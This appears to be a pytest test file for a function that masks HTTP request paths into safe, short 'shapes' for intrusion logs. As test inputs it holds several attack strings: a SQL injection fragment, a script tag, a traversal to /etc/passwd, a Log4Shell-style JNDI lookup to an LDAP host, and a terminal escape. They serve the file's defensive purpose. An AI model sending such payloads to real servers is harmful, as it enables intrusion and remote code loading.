import pytest
from hypothesis import given
from hypothesis import strategies as st

from bavn.intrusions.shape import parameter_name, path_shape


@pytest.mark.parametrize(
    ("path", "shape"),
    [
        (b"/", "/"),
        (b"/wp-login.php", "/wp-login.php"),
        (b"/.env", "/.env"),
        (b"/produkt/4711/side2", "/produkt/{n}/side{n}"),
        (b"/bruger/anna%40example.org/brev", "/bruger/{email}/brev"),
        (b"/f/550e8400-e29b-41d4-a716-446655440000", "/f/{token}"),
        (b"/t/deadbeefdeadbeefdead", "/t/{token}"),
        (b"/s/" + b"z" * 50, "/s/{token}"),
        (b"/om/b%C3%B8rnehave", "/om/børnehave"),
        (b"/x/%27%20or%201=1", "/x/{payload}"),
        (b"/x/<script>/y", "/x/{payload}/y"),
        (b"/a/../../etc/passwd", "/a/{payload}/etc/passwd"),
        (b"/a/%ff%fe", "/a/{payload}"),
        (b"/a/\x1b[2J", "/a/{payload}"),
        (b"/${jndi:ldap://198.51.100.7/a}", "/{payload}/{n}.{n}.{n}.{n}/{payload}"),
        (b"/1/2/3/4/5/6/7/8/9", "/{n}/{n}/{n}/{n}/{n}/{n}/{n}/{n}/…"),
    ],
)
def test_what_could_be_a_value_is_masked(path: bytes, shape: str) -> None:
    assert path_shape(path) == shape


def test_a_path_that_carries_an_attack_never_shows_all_of_it() -> None:
    assert path_shape(b"/vis/hemmeligt", payload=True) == "/vis/{payload}"
    assert path_shape(b"/", payload=True) == "/"
    assert path_shape(b"/vis/a'b/c", payload=True) == "/vis/{payload}"


def test_a_shape_is_about_a_hundred_characters_at_most() -> None:
    assert path_shape(b"/" + b"/".join([b"en-meget-lang-mappe-med-navn"] * 8)) == (
        "/" + "en-meget-lang-mappe-med-navn/" * 3 + "…"
    )


@pytest.mark.parametrize(
    ("name", "shown"), [("id", "id"), ("user[name]", "user[name]"), ("", ""), ("a b", ""), ("1=1", ""), ("x" * 65, "")]
)
def test_a_parameter_is_named_where_its_name_is_a_word(name: str, shown: str) -> None:
    assert parameter_name(name) == shown


@given(st.binary(max_size=300), st.booleans())
def test_no_bytes_make_it_fail_or_show_what_moves_a_terminal(path: bytes, payload: bool) -> None:  # noqa: FBT001
    shape = path_shape(path, payload=payload)
    assert shape.isprintable()
    assert len(shape) < 100
    assert not {"<", ">", '"', "'", "\\", "%", "&", "\x1b"} & set(shape)
